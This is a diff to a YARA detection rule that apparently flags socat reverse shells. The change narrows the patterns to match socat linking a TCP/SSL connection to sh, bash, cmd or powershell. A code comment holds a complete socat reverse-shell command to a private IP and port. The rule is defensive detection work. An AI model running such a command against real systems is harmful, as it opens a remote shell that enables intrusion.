@@ -61,11 +61,11 @@ rule strata_rs_socat_exec
         id = "STRATA-RS-004"
         category = "reverse-shell"
         severity = "critical"
-        description = "socat joining a TCP/SSL connection to a program (exec: or system:)"
+        description = "socat joining a TCP/SSL connection to a shell (exec:/system: running sh, bash, cmd or powershell)"
     strings:
         // socat tcp-connect:10.0.0.1:4444 exec:'bash -li',pty,stderr,setsid,sigint,sane
-        $net_first = /\bsocat\s[^\n]{0,200}\b(tcp[46]?|ssl|openssl)(-connect|-listen|-l)?:[^\n]{0,200}\b(exec|system):/ nocase
-        $exec_first = /\bsocat\s[^\n]{0,200}\b(exec|system):[^\n]{0,200}\b(tcp[46]?|ssl|openssl)(-connect|-listen|-l)?:/ nocase
+        $net_first = /\bsocat\s[^\n]{0,200}\b(tcp[46]?|ssl|openssl)(-connect|-listen|-l)?:[^\n]{0,200}\b(exec|system):["']?(\/usr)?(\/bin\/)?((ba|da|z|k|a)?sh\b|cmd(\.exe)?\b|powershell)/ nocase
+        $exec_first = /\bsocat\s[^\n]{0,200}\b(exec|system):["']?(\/usr)?(\/bin\/)?((ba|da|z|k|a)?sh\b|cmd(\.exe)?\b|powershell)[^\n]{0,200}\b(tcp[46]?|ssl|openssl)(-connect|-listen|-l)?:/ nocase
     condition:
         strata_text and any of them
 }
